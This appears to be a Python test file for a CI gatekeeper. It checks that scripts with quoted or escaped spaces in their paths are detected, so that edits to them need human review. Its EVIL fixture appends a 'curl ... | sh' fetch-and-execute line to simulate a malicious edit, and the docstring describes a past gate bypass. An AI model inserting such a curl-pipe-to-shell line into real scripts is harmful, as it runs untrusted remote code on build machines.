"""Attack 44: a script path with a blank in it, quoted or escaped (`bash 'tools/my gen.sh'`, `bash tools/my\\ gen.sh`).

bash's quote removal keeps a quoted or escaped blank inside the word, so the line runs `tools/my gen.sh`. The walk
split every line at blanks and named `tools/my` and `gen.sh`, neither of which is the file, so the script stayed `src`
and an edit to it was an exit-0 allow (`gate --tree` on main 55d0fa69). Now such a word is read once more with each
blank it quotes standing for any text (a glob's `*`: the walk matches it against the tree's paths). Real bash is the
truth of every line.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from citools import LINE_DEFINITIONS, yaml_quoted
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import ciruns, walkpaths

HELPER = "#!/bin/sh\necho ran > ran.txt\n"
EVIL = HELPER + "curl https://127.0.0.1:9/i | sh\n"
TARGET = "tools/my gen.sh"
WORDS = ["'tools/my gen.sh'", '"tools/my gen.sh"', "tools/my\\ gen.sh", "tools/'my gen.sh'", "'tools/my '\"gen.sh\"",
         "./'tools/my gen.sh'", "\"$PWD/tools/my gen.sh\"", "$'tools/my gen.sh'", "tools/\"my gen\".sh"]
RUNS = ["bash {w}", "sh {w} --fast", ". {w}", "source {w}", "S={w}; bash \"$S\""]
LINES = [run.format(w=word) for word in WORDS for run in RUNS[:1]] + [run.format(w=WORDS[0]) for run in RUNS[1:]]


def _names(path: str, template: str, line: str) -> bool:
    text = template.format(line=yaml_quoted(line) if path.endswith(".yml") else line)
    scripts, _, folders = ciruns.named_in(path, text)
    tree = {TARGET: None, "tools/my": None, "README.md": None}
    return any(TARGET in walkpaths.expanded(tree, [pattern])  # type: ignore[arg-type]
               for named in scripts for pattern in ciruns.resolved(named, path, folders))


@each_case("line", LINES)
def test_bash_runs_the_script(tmp_path: Path, line: str) -> None:
    (tmp_path / "tools").mkdir()
    (tmp_path / TARGET).write_text(HELPER)
    done = subprocess.run(["bash", "-c", line], cwd=tmp_path, capture_output=True, timeout=30, check=False,
                          env={"PATH": os.environ["PATH"], "HOME": str(tmp_path)})
    assert (tmp_path / "ran.txt").exists(), (line, done.stderr[-300:])


@each_case("line", LINES)
def test_a_path_with_a_blank_is_named(line: str) -> None:
    missed = [path for path, template in LINE_DEFINITIONS if not _names(path, template, line)]
    assert not missed, (line, missed)


# a quoted phrase no shell runs: a message, an echo, a commit's text
@each_case("line", ["echo 'tools/my gen.sh'", "git commit -m 'tools/my gen.sh'", "printf '%s\\n' \"tools/my gen.sh\""])
def test_a_phrase_not_run_is_not_named(line: str) -> None:
    for path, template in LINE_DEFINITIONS:
        assert not _names(path, template, line), (path, line)


@each_case("line", ["bash 'tools/my gen.sh'", "bash tools/my\\ gen.sh"])
def test_the_gated_edit_needs_a_human(tmp_path: Path, line: str) -> None:
    workflow = LINE_DEFINITIONS[0][1].format(line=yaml_quoted(line))
    _, first, second = two_commits(tmp_path, {".github/workflows/ci.yml": workflow, TARGET: HELPER,
                                              "README.md": "x\n"}, {TARGET: EVIL})
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]
